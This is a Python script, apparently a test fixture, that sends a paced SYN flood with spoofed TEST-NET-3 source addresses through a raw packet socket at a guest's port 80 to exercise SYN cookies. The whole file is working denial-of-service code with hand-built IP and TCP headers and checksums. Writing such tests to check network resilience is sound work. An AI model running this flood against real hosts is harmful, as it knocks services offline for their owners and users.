#!/usr/bin/python3
"""A SYN flood at the guest's port 80, paced, from spoofed sources.

Sends COUNT SYNs at about RATE a second through a raw packet socket on the tap, from
addresses of TEST-NET-3 (203.0.113.0/24, RFC 5737) and changing ports, as a real flood
would: the guest routes its SYN-ACKs to its gateway, the namespace, which does not forward
them and does not answer, so half-open connections pile up and SYN cookies must take over.
Nothing leaves the namespace. Prints how many went out.

usage: synflood.py IFACE GUEST_MAC HOST_MAC GUEST_IP COUNT RATE
"""
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    iface, gmac, hmac, dst = sys.argv[1:5]
    count, rate = int(sys.argv[5]), int(sys.argv[6])
    mac = lambda m: bytes(int(x, 16) for x in m.split(":"))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    daddr = socket.inet_aton(dst)
    eth = mac(gmac) + mac(hmac) + b"\x08\x00"
    start = time.time()
    for i in range(count):
        saddr = bytes([203, 0, 113, 1 + i % 254])
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i & 0xFFFF, 0, 64, 6, 0, saddr, daddr)
        head = eth + ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        sport = 1024 + i % 60000
        seq = (i * 2654435761) & 0xFFFFFFFF
        tcp = struct.pack("!HHIIBBHHH", sport, 80, seq, 0, 5 << 4, 0x02, 65535, 0, 0)
        pseudo = saddr + daddr + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        s.send(head + tcp)
        ahead = (i + 1) / rate - (time.time() - start)
        if ahead > 0:
            time.sleep(ahead)
    print("synflood: %d SYNs in %.1f s" % (count, time.time() - start))


main()
